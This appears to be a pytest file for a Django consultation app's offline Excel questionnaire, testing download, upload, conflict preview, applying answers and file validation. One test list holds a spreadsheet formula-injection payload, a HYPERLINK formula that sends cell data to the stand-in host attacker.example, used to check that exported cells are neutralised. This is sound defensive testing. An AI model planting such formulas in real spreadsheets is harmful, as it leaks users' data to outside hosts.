"""A focal point's offline questionnaire: download filled, upload, preview changes and conflicts, apply into the draft."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from consult.models import AuditEvent, Position
from consult.services.answering import position_section_save
from consult.services.imports.offline import OfflineFileError, offline_apply, offline_file_read, offline_plan
from consult.services.imports.values import quoted_cell
from consult.services.positions import position_for
from surveys.models import Section
from surveys.selectors import response_values

from .test_exports import survey_of


@pytest.fixture
def draft(consultation, france, focal_point_france):
    position = position_for(consultation=consultation, member_state=france)
    section = Section.objects.get(survey=survey_of(consultation, "member_state"), code="1")
    position_section_save(position=position, section=section, expected_version=0, actor=focal_point_france,
                          cleaned_data={"1-overall": "support", "1.1-practices": "A plan"})
    return position


def downloaded(client, person, position) -> bytes:
    client.force_login(person)
    response = client.get(reverse("consult:position-offline-download", kwargs={"position_id": position.pk}))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def filled(content: bytes, answers: dict, column="E") -> bytes:
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook["Questionnaire"]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value in answers:
            sheet[f"{column}{row[0].row}"] = answers[row[0].value]
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def saved(position, code):
    return response_values(position.response, list(position.response.survey.questions.filter(code=code))).get(code)


def test_the_download_holds_every_question_and_the_draft(client, focal_point_france, draft):
    rows = list(load_workbook(io.BytesIO(downloaded(client, focal_point_france, draft)))["Questionnaire"].values)

    by_code = {row[0]: row for row in rows[1:]}
    assert rows[0] == ("code", "area", "question", "allowed answers", "answer", "downloaded")
    assert by_code["1-overall"][4] == "support" and by_code["1.1-practices"][4] == "A plan"
    assert "support = " in by_code["1-overall"][3] and by_code["1.2-priority"][4] is None
    assert len(by_code) == survey_of(draft.consultation, "member_state").questions.filter(is_current=True).count()


def test_upload_previews_then_applies_into_the_draft_without_submitting(client, focal_point_france, draft):
    content = filled(downloaded(client, focal_point_france, draft),
                     {"1.1-priority": 4, "1-ranking": "1.2 > 1.1", "1.1-practices": "A plan, revised"})
    url = reverse("consult:position-offline-upload", kwargs={"position_id": draft.pk})

    page = client.post(url, {"file": SimpleUploadedFile("filled.xlsx", content)}).content.decode()

    assert "3 answers to change, 0 conflicts" in page and "A plan, revised" in page
    assert saved(draft, "1.1-practices") == "A plan"
    confirm = {"content": page.split('name="content" value="')[1].split('"')[0], "filename": "filled.xlsx"}
    response = client.post(url, confirm)
    assert response.status_code == 302
    assert saved(draft, "1.1-practices") == "A plan, revised" and saved(draft, "1.1-priority") == "4"
    assert saved(draft, "1-ranking") == {"1.2": 1, "1.1": 2}
    position = Position.objects.get(pk=draft.pk)
    assert position.status == "draft" and position.events.filter(action="offline_applied").exists()
    assert AuditEvent.objects.get(action="offline_applied").details["answers"] == 3


def test_an_answer_changed_on_the_site_since_the_download_is_a_conflict_left_as_it_is(
    client, focal_point_france, draft, consultation
):
    content = filled(downloaded(client, focal_point_france, draft), {"1-overall": "do_not_support", "1.1-priority": 2})
    section = Section.objects.get(survey=survey_of(consultation, "member_state"), code="1")
    position_section_save(position=draft, section=section, expected_version=1, actor=focal_point_france,
                          cleaned_data={"1-overall": "support_with_reservations"})

    plan = offline_apply(position=draft, content=content, actor=focal_point_france)

    assert [(change.question.code, change.is_conflict) for change in plan.changes] == [
        ("1-overall", True), ("1.1-priority", False)]
    assert saved(draft, "1-overall") == "support_with_reservations" and saved(draft, "1.1-priority") == "2"


def test_bad_files_are_refused_naming_the_place_and_nothing_changes(client, focal_point_france, draft, senegal):
    content = downloaded(client, focal_point_france, draft)
    other = position_for(consultation=draft.consultation, member_state=senegal)
    renamed = filled(content, {"1-overall": "9.9-nothing"}, column="A")

    with pytest.raises(OfflineFileError, match="another position"):
        offline_plan(position=other, content=content)
    with pytest.raises(OfflineFileError) as refused:
        offline_plan(position=draft, content=renamed)
    assert "“9.9-nothing” is not a question of this questionnaire" in refused.value.errors[0]
    assert "The question 1-overall is missing" in refused.value.errors[1]
    with pytest.raises(OfflineFileError) as refused:
        offline_apply(position=draft, content=filled(content, {"1-overall": "perhaps", "1.1-priority": 4}),
                      actor=focal_point_france)
    assert refused.value.errors[0].startswith("Row ") and "“perhaps” is not a choice of 1-overall" in refused.value.errors[0]
    with pytest.raises(OfflineFileError, match="not an offline questionnaire"):
        offline_plan(position=draft, content=b"PK\x03\x04 not a workbook")
    assert saved(draft, "1-overall") == "support" and saved(draft, "1.1-priority") is None


def test_a_submitted_position_cannot_take_an_upload(client, focal_point_france, draft):
    from django.utils import timezone

    Position.objects.filter(pk=draft.pk).update(status="submitted", submitted_at=timezone.now())
    client.force_login(focal_point_france)

    response = client.get(reverse("consult:position-offline-upload", kwargs={"position_id": draft.pk}), follow=True)

    assert "and locked; only the secretariat can reopen it." in response.content.decode()


def test_only_the_states_focal_points_upload(client, officer, draft):
    client.force_login(officer)
    assert client.get(reverse("consult:position-offline-upload", kwargs={"position_id": draft.pk})).status_code == 403



# What a spreadsheet would run, and text that already starts with apostrophes.
FORMULA_ANSWERS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "-5 people", "'=already quoted", "''-1"]


def practices_entry(content: bytes):
    [entry] = [entry for entry in offline_file_read(content, "questionnaire.xlsx").entries if entry.code == "1.1-practices"]
    return entry


@pytest.mark.parametrize("text", FORMULA_ANSWERS)
def test_a_formula_like_answer_is_written_behind_an_apostrophe_and_read_back_exactly(
    client, focal_point_france, draft, text
):
    section = Section.objects.get(survey=draft.response.survey, code="1")
    position_section_save(position=draft, section=section, expected_version=1, actor=focal_point_france,
                          cleaned_data={"1-overall": "support", "1.1-practices": text})
    content = downloaded(client, focal_point_france, draft)

    sheet = load_workbook(io.BytesIO(content))["Questionnaire"]
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "1.1-practices"]
    assert [(cell.value, cell.data_type) for cell in row[4:6]] == [("'" + text, "s")] * 2
    question = draft.response.survey.questions.get(code="1.1-practices", is_current=True)
    assert practices_entry(content).read(question) == (text, text)
    assert offline_plan(position=draft, content=content).changes == []


@pytest.mark.parametrize("text", FORMULA_ANSWERS)
def test_a_formula_like_answer_typed_into_the_workbook_reaches_the_draft_exactly(
    client, focal_point_france, draft, text
):
    content = downloaded(client, focal_point_france, draft)
    assert practices_entry(content).place  # "A plan" is there, as downloaded.

    offline_apply(position=draft, content=filled(content, {"1.1-practices": quoted_cell(text)}), actor=focal_point_france)

    assert saved(draft, "1.1-practices") == text


def test_a_question_text_that_looks_like_a_formula_is_neutralised(client, focal_point_france, draft):
    draft.response.survey.questions.filter(code="1.1-practices").update(text="-1 for none; =SUM(A1:A9) otherwise")
    sheet = load_workbook(io.BytesIO(downloaded(client, focal_point_france, draft)))["Questionnaire"]

    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "1.1-practices"]
    assert row[2].value == "'-1 for none; =SUM(A1:A9) otherwise"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
